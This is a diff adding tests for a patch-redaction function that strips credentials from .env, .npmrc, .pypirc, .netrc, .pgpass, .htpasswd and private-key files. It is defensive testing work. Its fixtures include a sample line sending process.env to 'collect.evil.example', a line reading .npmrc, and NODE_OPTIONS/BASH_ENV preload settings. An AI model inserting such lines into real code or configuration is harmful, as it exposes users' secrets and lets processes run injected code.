@@ -789,6 +789,28 @@ describe('redactPatch: adversarial input', () => {
     }
   })
 
+  // A secret file is read with more patterns: none of them may retry its runs either.
+  it.each([
+    'password=',
+    'token="a ',
+    'a:',
+    'x=+b',
+    '_authToken=a(',
+    'password ',
+    'Ab1/',
+    'a:a:a:a:',
+    ':$apr1$',
+    'pass: 1a.',
+    'key=a1',
+    'a'
+  ])('reads a 1 MB line of %j in a secret file once, and keeps its lines in place', unit => {
+    const patch = newFile('.env', [fill(unit)])
+    // A pattern that retried its runs would time the test out (see above).
+    const result = redactPatch(patch, 'secret file')
+    expect(result.patch.split('\n')).toHaveLength(patch.split('\n').length)
+    expect(result.patch.startsWith(patch.slice(0, patch.indexOf('@@')))).toBe(true)
+  })
+
   it('reads a megabyte of key bodies once, and leaves none of them', () => {
     const line = 'Ab3/' + 'x'.repeat(56) + 'Yz9+'
     const patch = newFile('src/big.ts', [
@@ -815,5 +837,167 @@ describe('redactPatch: adversarial input', () => {
       'password: hunter2-super-secret'
     ])
     expect(redactPatch(patch).kinds).toEqual(['password or secret assignment'])
+  })
+})
+
+describe('redactPatch: secret files', () => {
+  // Built by concatenation so this file holds no complete secret-looking literal.
+  const NPM = 'npm_' + 'a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8'
+  const PYPI = 'pypi-' + 'AgEIcHlwaS5vcmcCJGI4YjQ2ZjE5LTk2ZWMtNDc0OS1hZTZkLWE3ZmQ3NDgz'
+  const GH = 'ghp_' + 'Zx9Yw8Vu7Ts6Rq5Po4Nm3Lk2Ji1Hg0Fe9Dc8'
+
+  /** The new file's lines as a secret file's patch shows them, and what was found. */
+  function asSecretFile(path: string, lines: readonly string[]) {
+    const result = redactPatch(newFile(path, lines), 'secret file')
+    return {
+      lines: result.patch
+        .split('\n')
+        .filter(line => line.startsWith('+') && !line.startsWith('+++')),
+      secrets: result.secrets,
+      kinds: result.kinds
+    }
+  }
+
+  it('never sends the values of an .env file, and shows its other lines as they are', () => {
+    const values = {
+      token: 'q8Zr2Lm5Xv7Nb4Tk9Wc3Hd6Jf1Gs0Pa',
+      password: 'hunter2',
+      quoted: 'correct horse battery staple',
+      plain: 'env-value-9f8e7d',
+      url: 'S3cretPw',
+      unnamed: 'Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MEFCQ0RF'
+    }
+    const { lines, secrets } = asSecretFile('.env', [
+      `API_TOKEN=${values.token}`,
+      `export DB_PASSWORD=${values.password}`,
+      `SESSION_SECRET="${values.quoted}"`,
+      `PLAIN=${values.plain}`,
+      `DATABASE_URL=postgres://app:${values.url}@db.internal/app`,
+      `SIGNING=${values.unnamed}`,
+      'NODE_ENV=production',
+      'PORT=3000',
+      'NODE_OPTIONS=--require ./hook.js',
+      'BASH_ENV=scripts/env.sh',
+      'FEATURE_FLAGS=true',
+      'UPSTREAM_TOKEN=${CI_TOKEN}'
+    ])
+    expect(secrets).toBe(6)
+    for (const [kind, value] of Object.entries(values)) {
+      expect(lines.join('\n').includes(value), kind).toBe(false)
+    }
+    expect(lines).toEqual([
+      '+API_TOKEN=[redacted: high-entropy secret]',
+      '+export DB_PASSWORD=[redacted: credential setting]',
+      '+SESSION_SECRET="[redacted: credential setting]"',
+      '+PLAIN=[redacted: password-like value]',
+      '+DATABASE_URL=postgres://app:[redacted: password in URL]@db.internal/app',
+      '+SIGNING=[redacted: password-like value]',
+      '+NODE_ENV=production',
+      '+PORT=3000',
+      '+NODE_OPTIONS=--require ./hook.js',
+      '+BASH_ENV=scripts/env.sh',
+      '+FEATURE_FLAGS=true',
+      '+UPSTREAM_TOKEN=${CI_TOKEN}'
+    ])
+  })
+
+  it('never sends the tokens of an .npmrc, and shows what it makes npm do', () => {
+    const auth = Buffer.from('alice:' + 'pa55word').toString('base64')
+    const { lines } = asSecretFile('.npmrc', [
+      `//registry.npmjs.org/:_authToken=${NPM}`,
+      '//npm.pkg.github.com/:_authToken=${NODE_AUTH_TOKEN}',
+      `//registry.example.com/:_auth=${auth}`,
+      'registry=https://registry.npmjs.org/',
+      'always-auth=true',
+      'email=dev@example.com',
+      'node-options=--require ./.env'
+    ])
+    expect(lines).toEqual([
+      '+//registry.npmjs.org/:_authToken=[redacted: npm token]',
+      '+//npm.pkg.github.com/:_authToken=${NODE_AUTH_TOKEN}',
+      '+//registry.example.com/:_auth=[redacted: credential setting]',
+      '+registry=https://registry.npmjs.org/',
+      '+always-auth=true',
+      '+email=dev@example.com',
+      '+node-options=--require ./.env'
+    ])
+  })
+
+  it('never sends the passwords of a .pypirc, and shows its user names', () => {
+    const { lines } = asSecretFile('.pypirc', [
+      '[pypi]',
+      'username = __token__',
+      `password = ${PYPI}`,
+      '[internal]',
+      'repository = https://pypi.internal.example/simple/',
+      'username = alice',
+      'password = s3cr3t!'
+    ])
+    expect(lines).toEqual([
+      '+[pypi]',
+      '+username = __token__',
+      '+password = [redacted: PyPI token]',
+      '+[internal]',
+      '+repository = https://pypi.internal.example/simple/',
+      '+username = alice',
+      '+password = [redacted: credential setting]'
+    ])
+  })
+
+  it('never sends the passwords of a .netrc, .pgpass or .htpasswd', () => {
+    expect(
+      asSecretFile('.netrc', [
+        `machine github.com login bot password ${GH}`,
+        'machine example.com',
+        '  login alice',
+        '  password hunter2'
+      ]).lines
+    ).toEqual([
+      '+machine github.com login bot password [redacted: GitHub token]',
+      '+machine example.com',
+      '+  login alice',
+      '+  password [redacted: credential setting]'
+    ])
+    expect(asSecretFile('.pgpass', ['db.internal:5432:app:app:pgS3cret']).lines).toEqual([
+      '+db.internal:5432:app:app:[redacted: credential setting]'
+    ])
+    const hash = '$apr1$' + 'r31.....$HqJZimcKQFAMYayBlzkrA/'
+    expect(asSecretFile('.htpasswd', [`alice:${hash}`]).lines).toEqual([
+      '+alice:[redacted: password hash]'
+    ])
+  })
+
+  it('never sends a private key’s body, and shows its BEGIN and END lines', () => {
+    const { privateKey } = generateKeyPairSync('ec', {
+      namedCurve: 'P-256',
+      privateKeyEncoding: { type: 'pkcs8', format: 'pem' },
+      publicKeyEncoding: { type: 'spki', format: 'pem' }
+    })
+    const pem = privateKey.trim().split('\n')
+    const { lines } = asSecretFile('deploy/server.key', pem)
+    expect(lines[0]).toBe('+-----BEGIN PRIVATE KEY-----')
+    expect(lines.at(-1)).toBe('+-----END PRIVATE KEY-----')
+    for (const body of pem.slice(1, -1)) expect(lines.join('\n')).not.toContain(body)
+  })
+
+  it('shows code in a secret file as it is: only what looks like a credential goes', () => {
+    const code = [
+      "const fs = require('node:fs')",
+      'const token = process.env.TOKEN',
+      'const apiKey = loadKey(config)',
+      "if (token === '') exfiltrate(process.env, 'https://collect.evil.example')",
+      "node() { echo 'ok 1 - add'; }",
+      "module.exports = () => fs.readFileSync('./.npmrc', 'utf8')",
+      'process.exit(0)'
+    ]
+    const { lines, secrets } = asSecretFile('src/telemetry.key', code)
+    expect(secrets).toBe(0)
+    expect(lines).toEqual(code.map(line => `+${line}`))
+  })
+
+  it('takes out more than it does in code: an unnamed random value stays in a source file', () => {
+    const line = 'SIGNING=Zm9vYmFyYmF6cXV4MTIzNDU2Nzg5MEFCQ0RF'
+    expect(redactPatch(newFile('src/a.ts', [line])).secrets).toBe(0)
+    expect(redactPatch(newFile('.env.production', [line]), 'secret file').secrets).toBe(1)
   })
 })
